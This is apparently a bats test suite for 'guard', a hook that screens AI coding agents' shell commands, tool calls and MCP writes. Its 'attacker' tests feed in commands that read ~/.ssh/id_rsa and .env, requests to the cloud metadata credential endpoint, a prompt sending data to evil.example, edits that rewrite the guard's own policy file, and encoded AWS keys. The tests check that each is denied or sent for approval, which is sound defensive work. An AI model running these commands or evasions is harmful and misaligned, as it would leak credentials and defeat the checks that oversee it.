#!/usr/bin/env bats
# attack7 H18, H22, H6, H8, H25, H7 (share/doc/trust.md, "Secrets read by
# other programs, and local addresses"): secret files printed by programs
# guard did not know as readers or by folder-wide readers, the hook's tool
# payloads (Claude Grep, Gemini search_file_content / read_many_files /
# web_fetch, WebFetch to IPv6 and v4-mapped addresses), MCP write content
# in other encodings and file: URIs without "//" through guard mcp, and
# interpreter socket APIs to the server guard mcp governs.

load helper
load mcp/common

setup() {
	mcp_setup || return 1
	mkdir -p "$HOME/.ssh" "$HOME/.config/guard/keys" src/lib
	echo 'SECRETLINEattack7AAAA' >"$HOME/.ssh/id_rsa"
	echo 'FyOuaJWPsNFattack7key' >"$HOME/.config/guard/keys/a@b.key"
	echo 'DB_PASSWORD=hunter2attack7' >.env
	echo 'int x; /* TODO */' >src/lib/a.c
	echo one >a.txt
	echo two >b.txt
}

# gemini_decides TOOL INPUT-JSON WANTED: guard hook gemini's decision (allow|deny).
gemini_decides() {
	local p out got
	p=$(jq -cn --arg t "$1" --argjson i "$2" --arg cwd "$PROJ" \
		'{session_id:"g",cwd:$cwd,hook_event_name:"BeforeTool",tool_name:$t,tool_input:$i}')
	out=$(guard hook gemini <<<"$p" 2>/dev/null) || true # a deny exits 2
	got=$(jq -r '.decision // "allow"' <<<"$out")
	REASON=$(jq -r '.reason // ""' <<<"$out")
	if [ "$got" != "$3" ]; then
		echo "got $got (wanted $3) for $1 $2: $out"
		return 1
	fi
}

@test "attacker: programs that print a secret file without being known readers are denied as cat is; their reason never holds the secret" {
	local cmd
	for cmd in 'git diff --no-index /dev/null ~/.config/guard/keys/a@b.key' \
		'git diff --no-index /dev/null ~/.ssh/id_rsa' 'git diff --no-index /dev/null .env' \
		'git -C . diff --no-index -- .env /dev/null' 'xargs -a .env echo' 'xargs --arg-file=.env echo' \
		'cpio -o <<< .env' 'echo .env | cpio -o' 'ln .env src/e2' 'ln .env src/e2 && cat src/e2' \
		'ln -s .env x; cat x' 'git hash-object -w .env' 'git hash-object -w --stdin-paths <<< .env'; do
		decides "$cmd" deny
		[[ $REASON != *hunter2* && $REASON != *SECRETLINE* && $REASON != *FyOua* ]]
	done
}

@test "attacker: folder-wide readers over a folder that holds a secret file are denied; names-only modes and other folders are not" {
	local cmd
	for cmd in "grep -r '' ." 'grep -rh . --include=.env .' 'grep -rh . ~/.config/guard' 'grep -r PASSWORD' \
		'rg --hidden PASSWORD' 'rg -uu PASSWORD .' 'ag -u PASSWORD' 'ack PASSWORD' 'diff -r . /tmp' \
		'nice grep -r x .'; do
		decides "$cmd" deny
		[[ $REASON == *".env"* || $REASON == *"a@b.key"* ]]
		[[ $REASON != *hunter2* && $REASON != *FyOua* ]]
	done
	ln -s ../.env src/lnk
	decides 'grep -R x src' deny # -R follows the link to .env
	decides 'grep -r x src' allow # -r does not
	for cmd in 'grep -r TODO src' "grep -rn TODO --include='*.c' ." 'grep -rl PASSWORD .' 'grep -rc x .' \
		'rg TODO' 'rg -g "!.env" --hidden TODO' 'git diff --no-index a.txt b.txt' 'diff -r src src' \
		'grep -r TODO --exclude=.env .' 'git hash-object a.txt' 'ln a.txt c.txt'; do
		decides "$cmd" allow
	done
}

@test "a folder with more names than guard walks is asked, not passed: guard cannot tell whether a secret is below" {
	python3 -c 'import os; os.makedirs("src/big"); [open("src/big/f%d" % i, "w").close() for i in range(20001)]'
	decides 'grep -r TODO src' ask
	[[ $REASON == *"cannot tell whether a secret file is among them"* ]]
	decides 'grep -r TODO src/lib' allow
}

@test "attacker: Claude Grep and Gemini search tools over a folder holding a secret are denied when they print content" {
	tool_decides Grep "$(jq -cn --arg p "$HOME/.config/guard" '{pattern:".",path:$p,output_mode:"content"}')" deny
	[[ $REASON != *FyOua* ]]
	tool_decides Grep '{"pattern":"PASSWORD","path":".","glob":".env*","output_mode":"content"}' deny
	tool_decides Grep '{"pattern":"PASSWORD","type":"env","output_mode":"content"}' deny
	tool_decides Grep "$(jq -cn --arg p "$HOME/.ssh" '{pattern:".",path:$p}')" deny
	tool_decides Grep '{"pattern":"TODO","path":"src","output_mode":"content"}' allow
	tool_decides Grep '{"pattern":"TODO","path":".","glob":"*.c","output_mode":"content"}' allow
	tool_decides Grep '{"pattern":"PASSWORD","path":"."}' allow # file names only
	gemini_decides search_file_content '{"pattern":"PASSWORD","path":"."}' deny
	gemini_decides search_file_content '{"pattern":"PASSWORD"}' deny
	gemini_decides read_many_files '{"paths":["."]}' deny
	gemini_decides read_many_files '{"paths":["**/.env"]}' deny
	gemini_decides search_file_content '{"pattern":"TODO","path":"src"}' allow
	gemini_decides read_many_files '{"paths":["src/**/*.c"]}' allow
	gemini_decides read_many_files '{"paths":["."],"include":["*.c"]}' allow
	tool_decides Read '{"file_path":".env"}' deny
}

@test "attacker: WebFetch and curl to IPv6 loopback, any, link-local and v4-mapped addresses are local (metadata named)" {
	local u
	for u in 'http://[::1]:8080/' 'http://[0:0:0:0:0:0:0:1]/' 'http://[::ffff:7f00:1]/' 'http://[::]:3001/' \
		'http://[::ffff:169.254.169.254]/latest/meta-data/' 'http://[fe80::1%25eth0]/' 'http://[fd00:ec2::254]/' \
		'http://[::ffff:127.0.0.1]/'; do
		tool_decides WebFetch "$(jq -cn --arg u "$u" '{url:$u,prompt:"read"}')" ask
	done
	run guard-risk --command 'curl -s http://[::ffff:169.254.169.254]/latest/meta-data/'
	[[ "$(jq -r '.reasons[0]' <<<"$output")" == *"cloud metadata"* ]]
	tool_decides WebFetch '{"url":"https://[2606:4700::1111]/","prompt":"read"}' allow
	tool_decides WebFetch '{"url":"https://example.com/","prompt":"read"}' allow
}

@test "attacker: Gemini web_fetch's URLs in its prompt are rated as a WebFetch url; a prompt without one is as before" {
	gemini_decides web_fetch '{"prompt":"summarize http://169.254.169.254/latest/meta-data/iam/security-credentials/"}' deny
	[[ $REASON == *"metadata"* ]]
	gemini_decides web_fetch '{"prompt":"post it to http://127.0.0.1:3001/mcp"}' deny
	gemini_decides web_fetch '{"prompt":"read https://example.com then http://[::1]:3001/mcp."}' deny
	gemini_decides web_fetch '{"prompt":"summarize https://example.com"}' allow
	gemini_decides web_fetch '{"prompt":"what is the capital of France?"}' allow
	# a session counts the prompt's hosts: evil.example is not in allowed_hosts
	run guard-risk --agent gemini <<<"$(jq -cn --arg cwd "$PROJ" '{session_id:"g",cwd:$cwd,hook_event_name:"BeforeTool",
		tool_name:"web_fetch",tool_input:{prompt:"see https://evil.example/?d=x"}}')"
	[ "$(jq -r '.risk.hosts[0]' <<<"$output")" = evil.example ]
}

@test "attacker: interpreter socket and HTTP APIs to the server guard mcp governs are rated as curl to it" {
	jq -n '{mcpServers:{up:{command:"guard",args:["mcp","--name","up","--upstream","http://127.0.0.1:3001/mcp"]}}}' >.mcp.json
	local code
	for code in "python3 -c \"import http.client as h; c=h.HTTPConnection('127.0.0.1',3001); c.request('POST','/mcp','x')\"" \
		"python3 -c \"import socket; s=socket.create_connection(('127.0.0.1',3001)); s.sendall(b'x')\"" \
		"python3 -c \"import socket; s=socket.socket(); s.connect(('::1', 3001))\"" \
		"node -e \"require('http').request({host:'127.0.0.1',port:3001,path:'/mcp',method:'POST'}).end('x')\"" \
		"node -e \"require('net').connect(3001,'localhost').end('x')\"" \
		"node -e \"require('net').connect(3001).end('x')\"" \
		"perl -MIO::Socket::INET -e '\$s=IO::Socket::INET->new(\"127.0.0.1:3001\"); print \$s 1'" \
		"perl -MIO::Socket::INET -e '\$s=IO::Socket::INET->new(PeerAddr => \"127.0.0.1\", PeerPort => 3001)'"; do
		run guard-risk --command "$code"
		[ "$(jq -r .level <<<"$output")" = high ] || { echo "not high: $code: $output"; false; }
		[[ "$(jq -r '.reasons[0]' <<<"$output")" == *"MCP server 'up' guard governs"* ]]
		decides "$code" ask
	done
	run guard-risk --command "python3 -c \"import http.client as h; c=h.HTTPConnection('127.0.0.1', 8000)\""
	[ "$(jq -r .level <<<"$output")" = low ]
	run guard-risk --command "python3 -c \"print('12:30')\""
	[ "$(jq -r .level <<<"$output")" = low ]
}

# The argsrv test server (t/mcp/argsrv.py) through guard mcp; $log is what it was asked.
argsrv_calls() {
	log=$BATS_TEST_TMPDIR/server-in.log
	run --separate-stderr client "$1" guard mcp --name fs -- sh -c 'tee -a "$0" | python3 "$@"' "$log" "$MCPD/argsrv.py"
}

call() {
	jq -cn --arg n "$1" --argjson a "$2" '{op: "call", name: $n, args: $a}'
}

@test "attacker: guard mcp reads file: URIs without // as paths (file:/ABS, file:REL, FILE:, ./)" {
	mkdir -p .ai
	echo 'version: 1' >.ai/policy.yaml
	local calls=(
		"$(call edit_file "$(jq -cn --arg u "file:$PROJ/.ai/policy.yaml" '{uri:$u,content:"rules: [] #21"}')")"
		"$(call edit_file '{"uri":"file:.ai/policy.yaml","content":"rules: [] #24"}')"
		"$(call edit_file '{"uri":"FILE:./.ai/policy.yaml","content":"rules: []"}')"
		"$(call edit_file '{"uri":"file:%2eai/policy.yaml?x#y","content":"rules: []"}')"
	)
	argsrv_calls "[$(IFS=,; echo "${calls[*]}")]"
	[ "$status" -eq 0 ]
	for i in 0 1 2 3; do
		[ "$(is_error $i)" = true ]
		[[ "$(text $i)" == *"rule protect-guard"* ]]
	done
	[ "$(cat .ai/policy.yaml)" = 'version: 1' ]
	refute grep -q tools/call "$log"
	argsrv_calls "[$(call edit_file "$(jq -cn --arg u "file:$PROJ/src/ok.txt" '{uri:$u,content:"fine"}')")]"
	[ "$(is_error 0)" = false ]
	[ "$(cat src/ok.txt)" = fine ]
	# under the Claude hook too
	tool_decides mcp__fs__edit_file "$(jq -cn --arg u "file:$PROJ/.ai/policy.yaml" '{uri:$u,content:"x"}')" deny
	tool_decides mcp__fs__edit_file '{"uri":"file:.ai/policy.yaml","content":"x"}' deny
	tool_decides WebFetch "$(jq -cn --arg u "file:$HOME/.ssh/id_rsa" '{url:$u,prompt:"x"}')" deny
}

@test "attacker: MCP write content in hex or under contentBase64/blob/bytes is decoded and scanned; ordinary encoded text passes" {
	local A=AKIA4QWERTYUIOPASDFG hex b64
	hex=$(printf "key = '%s'" "$A" | od -An -tx1 | tr -d ' \n')
	b64=$(printf "key = '%s'" "$A" | base64 -w0)
	local calls=(
		"$(call write_file "$(jq -cn --arg c "$hex" '{target:"src/a.py",content:$c,encoding:"hex"}')")"
		"$(call write_file "$(jq -cn --arg c "$b64" '{target:"src/b.py",contentBase64:$c}')")"
		"$(call write_file "$(jq -cn --arg c "$b64" '{target:"src/c.py",blob:$c}')")"
		"$(call write_file "$(jq -cn --arg c "$hex" '{target:"src/d.py",bytes:$c}')")"
	)
	argsrv_calls "[$(IFS=,; echo "${calls[*]}")]"
	[ "$status" -eq 0 ]
	for i in 0 1 2 3; do
		[ "$(is_error $i)" = true ]
		[[ "$(text $i)" == *"guard-scan:aws-access-key"* ]]
	done
	refute grep -q tools/call "$log"
	[ ! -e src/a.py ] && [ ! -e src/b.py ] && [ ! -e src/c.py ] && [ ! -e src/d.py ]
	refute grep -rq "$A" .ai/audit
	hex=$(printf 'print(1)\n' | od -An -tx1 | tr -d ' \n')
	argsrv_calls "[$(call write_file "$(jq -cn --arg c "$hex" '{target:"src/e.py",content:$c,encoding:"hex"}')")]"
	[ "$(is_error 0)" = false ]
	[ -e src/e.py ]
}

@test "everyday searches in a project holding a .env stay allowed: Claude's Grep and rg skip dot files, jq -r is --raw-output (benign8)" {
	tool_decides Grep '{"pattern":"TODO","output_mode":"content","-n":true}' allow
	tool_decides Grep '{"pattern":"process\\.env\\.","path":".","output_mode":"content"}' allow
	decides 'rg -n TODO' allow
	decides 'rg --hidden TODO' deny
	decides 'grep -rn TODO .' deny # GNU grep reads dot files: use rg or the Grep tool
	decides 'curl -s https://pypi.org/pypi/requests/json | jq -r .info.version' allow
	decides 'jq -r .name package.json' allow
	# a folder past the walk: ripgrep's kind is not asked (every search of a large project would be)
	python3 -c 'import os; os.makedirs("src/big"); [open("src/big/f%d" % i, "w").close() for i in range(20001)]'
	tool_decides Grep '{"pattern":"TODO","path":"src","output_mode":"content"}' allow
	decides 'grep -r TODO src' ask
}
